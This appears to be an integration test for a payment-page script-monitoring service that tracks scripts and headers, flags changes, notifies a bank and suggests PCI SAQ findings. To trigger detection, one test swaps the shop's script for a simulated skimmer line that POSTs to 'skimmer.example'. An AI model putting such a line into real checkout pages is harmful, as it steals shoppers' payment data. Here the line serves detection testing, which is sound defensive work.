import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SaqSuggestion } from '../../core/saq/saq-suggestions';
import type { ScanRecord } from '../../core/scans/scan-record';
import { AUTO_SCAN_JOB } from '../../server/services/portfolio.service';
import type { NotificationRecord } from '../../server/store/records.types';
import { shareDemoMerchantWithDemoBank } from './support/compliance-share';
import { call, type TestServer, startTestServer, tokenFor } from './support/harness';

const DAY = 24 * 60 * 60 * 1000;

/**
 * Payment-page script monitoring (PCI DSS 6.4.3, 11.6.1; docs/domain/script-monitoring.md): a loopback
 * shop's page is scanned by the daily job, its scripts and headers become the merchant's inventory, a
 * week later (script monitoring's own schedule) its script changed and a third party appeared — the
 * change is an alert, a notification to the bank and a suggested Not in Place on the linked merchant's
 * SAQ; the bank authorises with a justification, which clears the alert and stays in the history.
 */
describe('payment-page script monitoring', () => {
  let server: TestServer;
  let site: Server;
  let thirdParty: Server;
  let url: string;
  let bank: string;
  let merchantUser: string;
  let shiftMs = 0;
  // what the shop serves: its own script's text, whether it loads the third party, its CSP
  const shop = { app: 'console.log("v1")', widget: false, csp: "default-src 'self'" };
  const as = (token: string | undefined, method: string, path: string, body?: unknown) =>
    call(server.base, method, path, { token, body, headers: { 'accept-language': 'en' } });

  beforeAll(async () => {
    thirdParty = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end('window.widget = 1');
    });
    await new Promise<void>((resolve) => thirdParty.listen(0, '127.0.0.1', resolve));
    const widget = `http://localhost:${(thirdParty.address() as AddressInfo).port}/widget.js`;
    site = createServer((req, res) => {
      if (req.url === '/app.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end(shop.app);
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': shop.csp });
      res.end(`<html><head><script src="/app.js"></script>${shop.widget ? `<script src="${widget}"></script>` : ''}
<script>var checkout = true;</script></head><body>shop</body></html>`);
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
    server = await startTestServer({
      withSmtp: false,
      loginRateLimit: 100,
      scans: { allowLoopback: true, checks: ['http_response'], checkTimeoutMs: 10_000 },
      clock: () => new Date(Date.now() + shiftMs),
    });
    [bank, merchantUser] = await Promise.all(
      ['bank@demo.test', 'merchant@demo.test'].map((email) => tokenFor(server.base, email)),
    );
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    await new Promise((resolve) => site?.close(resolve));
    await new Promise((resolve) => thirdParty?.close(resolve));
  });

  let merchantId: string;
  let base: string;
  let saqId: string;
  const scans = async () =>
    (await server.store.collection<ScanRecord>('scans').all()).filter((scan) => scan.merchantId === merchantId);
  const inventory = async () =>
    (await as(bank, 'GET', `${base}/payment-scripts?sort=name`)).body.content.items as {
      id: string;
      kind: string;
      name: string;
      state: string;
      changes: string[];
      hash: string | null;
      thirdParty: boolean;
    }[];
  const summary = async () => (await as(bank, 'GET', `${base}/payment-scripts/summary`)).body.content;
  const notices = async () =>
    (await server.store.collection<NotificationRecord>('notifications').all()).filter((notice) =>
      notice.groups.some((group) => group.groupKey === 'paymentPageChanged'),
    );

  it('keeps the first scan’s scripts and headers as the inventory, each awaiting authorisation', async () => {
    const made = await as(bank, 'POST', '/wbe/api/resources/merchant', { name: 'Script Shop', url, type: 'merchant' });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    merchantId = made.body.content.id;
    base = `/wbe/api/portfolio/merchants/${merchantId}`;
    expect((await as(bank, 'POST', `${base}/assets`, { value: url, primary: true })).status).toBe(201);
    // a monthly auto scan: the weekly look below is script monitoring's own
    expect((await as(bank, 'PUT', `${base}/settings`, { autoScan: true, period: 'month' })).status).toBe(200);
    // the merchant's organisation shares its compliance with the bank and is linked: its SAQ takes the suggestions
    await shareDemoMerchantWithDemoBank(server);
    expect((await as(bank, 'PUT', `${base}/sharing`, { organizationId: 'org-demo-merchant' })).status).toBe(200);
    const saq = await as(merchantUser, 'POST', '/saq/api/v1/saqs', { saqType: 'A-EP' });
    expect(saq.status, JSON.stringify(saq.body)).toBe(201);
    saqId = saq.body.content.id;

    await server.ctx.jobs.send(AUTO_SCAN_JOB, {});
    await server.settled();
    expect((await scans()).map((scan) => scan.status)).toEqual(['completed']);
    const first = await inventory();
    expect(first.map((item) => [item.kind, item.name, item.state])).toEqual([
      ['header', 'content-security-policy', 'unauthorised'],
      ['script', `${url}/app.js`, 'unauthorised'],
      ['inline', 'inline #1', 'unauthorised'],
    ]);
    expect(first[1].hash).toMatch(/^sha256-/);
    expect(first.every((item) => item.changes.includes('added'))).toBe(true);
    expect(await summary()).toMatchObject({ total: 3, unauthorised: 3, alert: true });
    expect((await notices()).length).toBeGreaterThan(0);
  }, 60_000);

  it('authorising needs a justification and keeps who, when and why', async () => {
    const items = await inventory();
    const action = (id: string) => `/wbe/api/resources/payment-script/${id}/actions/authorise`;
    const bare = await as(bank, 'POST', action(items[0].id), {});
    expect(bare.status).toBe(422);
    expect(bare.body.errors).toEqual({ comment: 'validation.required' });
    expect((await as(bank, 'POST', action(items[0].id), { comment: 42 })).status).toBe(400);
    for (const item of items) {
      const done = await as(bank, 'POST', action(item.id), { comment: 'Checkout code, owned by the shop team' });
      expect(done.status, JSON.stringify(done.body)).toBe(200);
      expect(done.body.content.state).toBe('authorised');
    }
    expect(await summary()).toMatchObject({ unauthorised: 0, authorised: 3, alert: false });
    const history = (await as(bank, 'GET', `${base}/payment-scripts/${items[1].id}/history?sort=at`)).body.content;
    expect(history.items.map((entry: { action: string }) => entry.action)).toEqual(['detect', 'authorise']);
    expect(history.items[1]).toMatchObject({ to: 'authorised', comment: 'Checkout code, owned by the shop team' });
    expect(history.items[1].by).not.toBe('system');
    // once authorised there is nothing to authorise again
    expect((await as(bank, 'POST', action(items[0].id), { comment: 'again' })).status).toBe(409);
  });

  it('a week later the changed page raises the alert, the notification and the SAQ suggestion', async () => {
    const noticesBefore = (await notices()).length;
    shop.app = 'console.log("v2"); fetch("https://skimmer.example", { method: "POST" })';
    shop.widget = true;
    shop.csp = "default-src 'self' https:";
    // six days: nothing due (the monthly auto scan neither)
    shiftMs = 6 * DAY;
    await server.ctx.jobs.send(AUTO_SCAN_JOB, {});
    await server.settled();
    expect(await scans()).toHaveLength(1);
    shiftMs = 7 * DAY;
    await server.ctx.jobs.send(AUTO_SCAN_JOB, {});
    await server.settled();
    expect(await scans()).toHaveLength(2);

    const byName = Object.fromEntries((await inventory()).map((item) => [item.name, item]));
    expect(byName[`${url}/app.js`]).toMatchObject({ state: 'changed', changes: ['hashChanged'] });
    expect(byName['content-security-policy']).toMatchObject({ state: 'changed', changes: ['headerChanged'] });
    expect(byName['inline #1']).toMatchObject({ state: 'authorised', changes: [] });
    const widget = Object.values(byName).find((item) => item.name.endsWith('/widget.js'));
    expect(widget).toMatchObject({ state: 'unauthorised', thirdParty: true });
    expect(widget?.changes).toEqual(['added', 'newOrigin', 'sriMissing']);
    expect(await summary()).toMatchObject({ unauthorised: 3, alert: true, withoutIntegrity: 1 });

    const fresh = (await notices()).slice(noticesBefore);
    expect(fresh.length).toBeGreaterThan(0);
    expect(fresh[0].payload).toMatchObject({
      title: 'Payment page changed: Script Shop',
      url: `/app/portfolio/${merchantId}/payment-scripts`,
    });
    expect(fresh[0].payload.tr?.title).toBe('Ödeme sayfası değişti: Script Shop');

    const suggestions = (await as(merchantUser, 'GET', `/saq/api/v1/saqs/${saqId}/suggestions`)).body
      .content as SaqSuggestion[];
    const byItem = Object.fromEntries(suggestions.map((each) => [each.itemId, each]));
    for (const item of ['req_6_4_3', 'req_11_6_1']) {
      expect(byItem[item], item).toMatchObject({ value: 'notInPlace', status: 'suggested' });
      expect(byItem[item].evidence.map((each) => each.check)).toContain('script_monitoring');
      expect(byItem[item].evidence.map((each) => each.evidence)).toContain(`${url}/app.js: hashChanged`);
    }

    // the bank authorises the changed script: it leaves the alert, its history shows the change and the reason
    const script = byName[`${url}/app.js`];
    const ok = await as(bank, 'POST', `/wbe/api/resources/payment-script/${script.id}/actions/authorise`, {
      comment: 'New checkout release 2.1, reviewed',
    });
    expect(ok.status).toBe(200);
    expect(await summary()).toMatchObject({ unauthorised: 2 });
    const history = (await as(bank, 'GET', `${base}/payment-scripts/${script.id}/history?sort=at`)).body.content;
    expect(history.items.map((entry: { action: string }) => entry.action)).toEqual([
      'detect',
      'authorise',
      'change',
      'authorise',
    ]);
    expect(history.items[2].comment).toMatch(/^hashChanged \(scan /);
  }, 60_000);

  it('lets portfolio readers read the merchant’s scans on its asset pages, and no other scan', async () => {
    const [scan] = await scans();
    const overview = await as(bank, 'GET', `${base}/scans/${scan.id}`);
    expect(overview.status, JSON.stringify(overview.body)).toBe(200);
    expect(overview.body.content).toMatchObject({ id: scan.id, merchantId, status: 'completed' });
    const group = await as(bank, 'GET', `${base}/scans/${scan.id}/groups/site_health`);
    expect(group.status).toBe(200);
    expect(group.body.content).toMatchObject({ id: 'site_health' });
    expect((await as(bank, 'GET', `${base}/scans/${scan.id}/groups/site_health/findings`)).body.content).toHaveProperty(
      'items',
    );
    expect((await as(bank, 'GET', `${base}/scans/${scan.id}/checks`)).body.content.total).toBeGreaterThan(0);
    // the bank is not a scanner: the domain endpoints stay closed, the portfolio's open only its merchant's scans
    expect((await as(bank, 'GET', `/wbe/api/scans/${scan.id}`)).status).toBe(403);
    const elsewhere = `/wbe/api/portfolio/merchants/demo-merchant-anatolia/scans/${scan.id}`;
    expect((await as(bank, 'GET', elsewhere)).status).toBe(404);
    expect((await as(bank, 'GET', `${base}/scans/${scan.id}/groups/nope`)).status).toBe(400);
    expect((await as(merchantUser, 'GET', `${base}/scans/${scan.id}`)).status).toBe(403);
  });

  it('refuses other organisations, readers without the portfolio, and a script of another merchant', async () => {
    const [item] = await inventory();
    for (const path of [`${base}/payment-scripts`, `${base}/payment-scripts/summary`]) {
      expect((await as(merchantUser, 'GET', path)).status, path).toBe(403);
      expect((await call(server.base, 'GET', path)).status).toBe(401);
    }
    expect((await as(merchantUser, 'GET', `/wbe/api/resources/payment-script/${item.id}`)).status).toBe(403);
    const other = `/wbe/api/portfolio/merchants/demo-merchant-anatolia/payment-scripts/${item.id}/history`;
    expect((await as(bank, 'GET', other)).status).toBe(404);
    // the server makes and moves these records: nobody creates, edits or changes them by hand
    expect(
      (await as(bank, 'POST', '/wbe/api/resources/payment-script', { merchantId, key: 'x', kind: 'script', name: 'x' }))
        .status,
    ).toBe(403);
    expect((await as(bank, 'POST', `/wbe/api/resources/payment-script/${item.id}/actions/change`, {})).status).toBe(
      403,
    );
    expect((await as(bank, 'GET', `${base}/payment-scripts?sort=nope`)).status).toBe(400);
    expect((await as(bank, 'PUT', `${base}/settings`, { scriptMonitoring: 'yes' })).status).toBe(400);
  });
});
